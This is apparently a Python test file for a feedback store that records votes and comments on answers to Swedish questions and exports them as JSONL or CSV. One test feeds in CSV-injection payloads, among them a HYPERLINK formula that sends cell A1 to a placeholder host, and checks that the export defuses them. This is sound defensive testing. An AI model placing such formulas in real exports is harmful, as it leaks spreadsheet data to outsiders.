"""Feedback from the page: votes and comments stored in SQLite and exported by the CLI."""

from __future__ import annotations

import csv
import io
import json

import pytest

from front.cli import main
from front.feedback import FeedbackStore, export

ANSWER = {
    "question": "Vem äger SIP-uppdraget?",
    "text": "Beredningen [1] fick i uppdrag …",
    "language": "sv",
    "citations": [
        {"marker": 1, "doc_id": "plan", "title": "Plan", "page": 2, "start": 10, "end": 20, "quote": "Beredningen"}
    ],
}


def test_a_vote_keeps_question_answer_and_citations_and_takes_a_comment(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    vote = store.record(ANSWER, liked=False)
    assert store.comment(vote, "  Fel år.  ")
    assert not store.comment("no-such-vote", "x")
    (row,) = store.rows()
    assert row["liked"] is False and row["comment"] == "Fel år."
    assert row["question"] == ANSWER["question"] and row["answer"] == ANSWER["text"]
    assert row["citations"][0]["quote"] == "Beredningen" and row["citations"][0]["start"] == 10


def test_no_file_means_no_rows(tmp_path):
    assert list(FeedbackStore(tmp_path / "missing.sqlite3").rows()) == []
    assert not (tmp_path / "missing.sqlite3").exists()


def test_export_formats(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    store.record(ANSWER, liked=True, comment='Bra, "tydligt"')
    lines = export(store.rows(), "jsonl").splitlines()
    assert json.loads(lines[0])["comment"] == 'Bra, "tydligt"'
    (row,) = csv.DictReader(io.StringIO(export(store.rows(), "csv")))
    assert row["comment"] == 'Bra, "tydligt"' and json.loads(row["citations"])[0]["marker"] == 1
    with pytest.raises(ValueError, match="unknown export format"):
        export(store.rows(), "xml")


def test_cli_counts_and_exports(tmp_path, capsys):
    data_dir = tmp_path / "var"
    store = FeedbackStore(data_dir / "feedback.sqlite3")
    store.record(ANSWER, liked=True)
    store.comment(store.record(ANSWER, liked=False), "saknar källa")
    assert main(["--data-dir", str(data_dir), "feedback"]) == 0
    assert "2 votes: 1 up, 1 down, 1 with a comment" in capsys.readouterr().out
    assert main(["--data-dir", str(data_dir), "feedback", "--export"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 2
    out = tmp_path / "feedback.csv"
    assert main(["--data-dir", str(data_dir), "feedback", "--export", str(out), "--format", "csv"]) == 0
    assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 2


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"klicka")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_export_defuses_formulas(tmp_path, cell):
    """A spreadsheet runs a cell that starts with = + - @ (or a tab or CR) as a formula (OWASP: CSV
    injection); the export prefixes such cells with ' so they open as text. JSON lines are unchanged."""
    store = FeedbackStore(tmp_path / "f.sqlite3")
    store.record({**ANSWER, "question": cell, "text": cell}, liked=True, comment=cell)
    (row,) = csv.DictReader(io.StringIO(export(store.rows(), "csv")))
    for column in ("question", "answer", "comment"):
        assert row[column] == "'" + cell
    assert json.loads(export(store.rows(), "jsonl"))["question"] == cell


def test_csv_export_leaves_ordinary_text_alone(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite3")
    store.record({**ANSWER, "question": "Vem äger SIP? 3-5 år, a=b"}, liked=True)
    (row,) = csv.DictReader(io.StringIO(export(store.rows(), "csv")))
    assert row["question"] == "Vem äger SIP? 3-5 år, a=b" and row["liked"] == "True"


def test_a_vote_given_again_with_its_id_replaces_the_earlier_one_and_keeps_its_comment(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    vote = store.record(ANSWER, liked=True)
    store.comment(vote, "Bra.")
    assert store.record(ANSWER, liked=False, row_id=vote) == vote
    (row,) = store.rows()
    assert row["liked"] is False and row["comment"] == "Bra."


def test_a_withdrawn_vote_is_gone(tmp_path):
    store = FeedbackStore(tmp_path / "feedback.sqlite3")
    vote = store.record(ANSWER, liked=True)
    assert store.withdraw(vote) and not store.withdraw(vote)
    assert list(store.rows()) == []
